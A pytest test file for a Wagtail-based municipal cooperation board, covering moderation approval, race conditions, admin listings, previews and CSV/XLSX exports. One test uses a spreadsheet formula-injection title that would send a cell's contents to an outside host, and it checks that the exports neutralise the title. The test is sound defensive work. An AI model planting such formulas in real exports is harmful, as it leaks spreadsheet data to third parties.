"""Board entries wait for a moderator: a submission is a draft until it is approved."""

import csv
import datetime as dt
import io

from django.urls import reverse
from django.utils import timezone

from wagtail.models import ModelLogEntry, TaskState, WorkflowTask
from wagtail.test.utils.form_data import querydict_from_html

import openpyxl
import pytest

from board.models import CooperationEntry
from board.moderation import board_workflow_has_an_approval_task, ensure_board_workflow
from taxonomy.models import Municipality
from tests.factories import TopicFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def entry(db):
    municipality = Municipality.objects.create(
        name="Borchen", kind="gemeinde", district="paderborn"
    )
    entry = CooperationEntry(
        kind="request",
        title="Partner für gemeinsame Vergabestelle gesucht",
        municipality=municipality,
        description="Wir suchen eine Kommune für eine gemeinsame Vergabestelle.",
        contact_name="Frau Beispiel",
        contact_email="kooperation@borchen.example.org",
        valid_until=timezone.localdate() + dt.timedelta(days=90),
        live=False,
    )
    entry.save()
    entry.topics.add(TopicFactory(slug="vergabestelle"))
    return entry


def test_the_board_workflow_has_an_approval_task_for_moderation():
    workflow = CooperationEntry().get_workflow()

    assert workflow is not None and workflow.active
    (task,) = workflow.tasks.filter(active=True)
    assert [group.name for group in task.specific.groups.all()] == ["Moderation"]
    assert board_workflow_has_an_approval_task(None) == []


def test_a_workflow_without_tasks_is_reported():
    WorkflowTask.objects.all().delete()

    (error,) = board_workflow_has_an_approval_task(None)

    assert error.id == "board.E001"
    ensure_board_workflow()
    assert board_workflow_has_an_approval_task(None) == []


def test_submission_stays_draft_until_a_moderator_approves(entry, member, moderator, mailoutbox):
    entry.save_revision(user=member)
    workflow_state = entry.get_workflow().start(entry, member)

    entry.refresh_from_db()
    assert not entry.live
    assert not CooperationEntry.objects.filter(live=True).exists()
    assert moderator.email in {address for mail in mailoutbox for address in mail.to}

    task_state = workflow_state.current_task_state
    task_state.task.specific.on_action(task_state, moderator, "approve")

    entry.refresh_from_db()
    assert entry.live


def test_moderators_list_and_export_entries_with_readable_values(client, entry, moderator):
    entry.save_revision().publish()
    client.force_login(moderator)

    listing = client.get("/admin/snippets/board/cooperationentry/", {"kind": "request"})
    export = client.get("/admin/snippets/board/cooperationentry/", {"export": "csv"})

    assert listing.status_code == 200
    assert "Partner für gemeinsame Vergabestelle gesucht" in listing.content.decode()
    exported = (
        b"".join(export.streaming_content).decode() if export.streaming else export.content.decode()
    )
    assert "Nachfrage" in exported and "offen" in exported


def test_xlsx_export_has_readable_values(client, entry, moderator):
    entry.save_revision().publish()
    client.force_login(moderator)

    export = client.get("/admin/snippets/board/cooperationentry/", {"export": "xlsx"})

    content = b"".join(export.streaming_content) if export.streaming else export.content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = {str(cell.value) for row in sheet.iter_rows() for cell in row}
    assert {"Nachfrage", "offen", "Partner für gemeinsame Vergabestelle gesucht"} <= cells
    assert "Themen" in cells and entry.topics.get().name in cells
    assert "request" not in cells and "open" not in cells


def test_demo_board_has_six_live_entries_of_each_kind(demo_site):
    assert CooperationEntry.objects.filter(live=True, kind="offer").count() >= 6
    assert CooperationEntry.objects.filter(live=True, kind="request").count() >= 6


def test_demo_member_has_a_submission_waiting_for_moderation(demo_site, client):
    pending = CooperationEntry.objects.get(title="Gemeinsame Datenschutzbeauftragte gesucht")

    assert not pending.live and pending.workflow_in_progress
    client.force_login(pending.submitted_by)
    mine = client.get("/kooperationsboerse/meine-eintraege/").content.decode()
    assert "Gemeinsame Datenschutzbeauftragte gesucht" in mine and "wird geprüft" in mine
    assert "Datenschutzbeauftragte" not in client.get("/kooperationsboerse/").content.decode()


def test_admin_form_offers_topics_as_checkboxes(client, moderator):
    TopicFactory(name="Bauhof", slug="bauhof")
    client.force_login(moderator)

    html = client.get("/admin/snippets/board/cooperationentry/add/").content.decode()

    assert 'type="checkbox" name="topics"' in html


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_exports_never_start_a_formula_with_member_typed_text(
    client, entry, moderator, export_format
):
    entry.title = '=HYPERLINK("http://example.org/?"&A1;"Klick")'
    entry.save()
    entry.save_revision().publish()
    client.force_login(moderator)

    export = client.get("/admin/snippets/board/cooperationentry/", {"export": export_format})

    content = b"".join(export.streaming_content) if export.streaming else export.content
    if export_format == "csv":
        cells = {cell for row in csv.reader(io.StringIO(content.decode())) for cell in row}
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = {str(cell.value) for row in sheet.iter_rows() for cell in row}
    assert "'" + entry.title in cells
    assert entry.title not in cells


def test_moderators_preview_an_entry_as_visitors_will_see_it(client, entry, board, moderator):
    entry.save_revision()
    client.force_login(moderator)
    edit_url = reverse("wagtailsnippets_board_cooperationentry:edit", args=[entry.pk])
    preview_url = reverse("wagtailsnippets_board_cooperationentry:preview_on_edit", args=[entry.pk])
    form_data = querydict_from_html(client.get(edit_url).content.decode(), form_id="w-editor-form")
    form_data["title"] = "Vergabestelle gemeinsam betreiben"  # an unsaved change

    checked = client.post(preview_url, form_data)
    response = client.get(preview_url)

    assert checked.json() == {"is_valid": True, "is_available": True}
    html = response.content.decode()
    assert '<h1 class="kern-heading-x-large" id="page-title">Vergabestelle gemeinsam' in html
    assert entry.municipality.name in html and "Eckdaten" in html


def test_the_listing_names_who_submitted_by_full_name(client, entry, moderator):
    entry.submitted_by = UserFactory(username="kommune7", first_name="Mia", last_name="Mitglied")
    entry.save()
    client.force_login(moderator)

    listing = client.get("/admin/snippets/board/cooperationentry/").content.decode()
    export = client.get("/admin/snippets/board/cooperationentry/", {"export": "csv"})

    assert "Mia Mitglied" in listing
    assert "Mia Mitglied" in b"".join(export.streaming_content).decode()


def _waiting_for_moderation(entry, member):
    entry.save_revision(user=member)
    return entry.get_workflow().start(entry, member).current_task_state


def test_the_listing_shows_where_each_entry_stands(client, entry, member, moderator):
    _waiting_for_moderation(entry, member)
    published = CooperationEntry.objects.create(
        kind="offer",
        title="Kehrmaschine zu verleihen",
        municipality=entry.municipality,
        description="Unsere Kehrmaschine steht montags frei.",
        contact_name="Herr Beispiel",
        contact_email="bauhof@borchen.example.org",
        valid_until=entry.valid_until,
    )
    published.save_revision().publish()
    client.force_login(moderator)

    listing = client.get(reverse("wagtailsnippets_board_cooperationentry:list")).content.decode()
    rows = listing.split("<tr")

    def row_of(title):
        (row,) = [row for row in rows if title in row]
        return row

    assert "wartet auf Freigabe" in row_of(entry.title)
    assert "veröffentlicht" in row_of(published.title)
    assert "wartet auf Freigabe" not in row_of(published.title)


@pytest.fixture
def first_moderator(db):
    return UserFactory(
        username="erste", first_name="Erika", last_name="Erste", groups=["Moderation"]
    )


def _approve_in_the_admin(client, entry, task_state, **extra):
    """A moderator's "Freigeben" from the entry's edit page (the admin's workflow action)."""
    edit_url = reverse("wagtailsnippets_board_cooperationentry:edit", args=[entry.pk])
    response = client.post(
        reverse(
            "wagtailsnippets_board_cooperationentry:workflow_action",
            args=[entry.pk, "approve", task_state.pk],
        ),
        {"comment": ""},
        HTTP_REFERER=f"http://testserver{edit_url}",
        **extra,
    )
    return response, edit_url


def test_approving_twice_is_refused_with_a_message(
    client, entry, member, moderator, first_moderator
):
    task_state = _waiting_for_moderation(entry, member)
    task_state.task.specific.on_action(task_state, first_moderator, "approve")
    client.force_login(moderator)

    response, _edit_url = _approve_in_the_admin(client, entry, task_state, follow=True)

    assert response.status_code == 200
    assert "wartet nicht mehr auf eine Freigabe" in response.content.decode()
    approvals = ModelLogEntry.objects.filter(action="wagtail.workflow.approve")
    assert [log.user for log in approvals] == [first_moderator]


def test_a_decision_racing_another_is_refused_with_who_decided(
    client, entry, member, moderator, first_moderator, monkeypatch
):
    """Another moderator's approval commits between loading the task and saving the decision."""
    task_state = _waiting_for_moderation(entry, member)
    approve = TaskState.approve

    def approve_just_after_someone_else(self, *args, **kwargs):
        TaskState.objects.filter(pk=self.pk).update(
            status=TaskState.STATUS_APPROVED, finished_by=first_moderator
        )
        return approve(self, *args, **kwargs)

    monkeypatch.setattr(TaskState, "approve", approve_just_after_someone_else)
    client.force_login(moderator)

    response, edit_url = _approve_in_the_admin(client, entry, task_state)

    assert response.status_code == 302
    assert response["Location"] == f"http://testserver{edit_url}"
    page = client.get(edit_url).content.decode()
    assert "Das wurde gerade schon entschieden (von Erika Erste)" in page
    entry.refresh_from_db()
    assert not entry.live
    assert not ModelLogEntry.objects.filter(action="wagtail.workflow.approve").exists()
